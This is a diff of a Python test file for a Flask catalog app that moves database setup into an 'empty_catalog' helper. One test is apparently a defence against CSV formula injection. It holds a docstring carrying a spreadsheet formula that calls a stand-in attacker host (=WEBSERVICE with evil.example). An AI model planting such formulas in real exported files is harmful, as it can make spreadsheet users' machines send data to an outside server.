@@ -10,10 +10,10 @@ from flask.testing import FlaskClient
 from headwater_catalog.query import FIELDS
 from headwater_catalog.repositories import add_repository
 from headwater_catalog.scan import scan
-from headwater_catalog.store.database import Database
 from headwater_web.app import create_app
 from headwater_web.spreadsheets import csv_answer
 from support.demo_catalog import settings_in
+from support.empty_catalog import empty_catalog
 
 
 def test_the_page_explains_every_term_of_the_language(client: FlaskClient):
@@ -74,8 +74,7 @@ def test_what_stands_in_a_docstring_is_no_formula_in_the_table(tmp_path, git_rep
     source = 'def sales(x: int) -> int:\n    """=WEBSERVICE("http://evil.example")"""\n    return x\n'
     git_repo.commit("One", files={"features/sales.py": source})
     settings = settings_in(tmp_path / "home")
-    database = Database(settings.database_url)
-    database.upgrade()
+    database = empty_catalog(settings.database_url)
     with database.write() as session:
         add_repository(session, "shop", str(git_repo.path), 0)
     scan(database, settings, "shop")
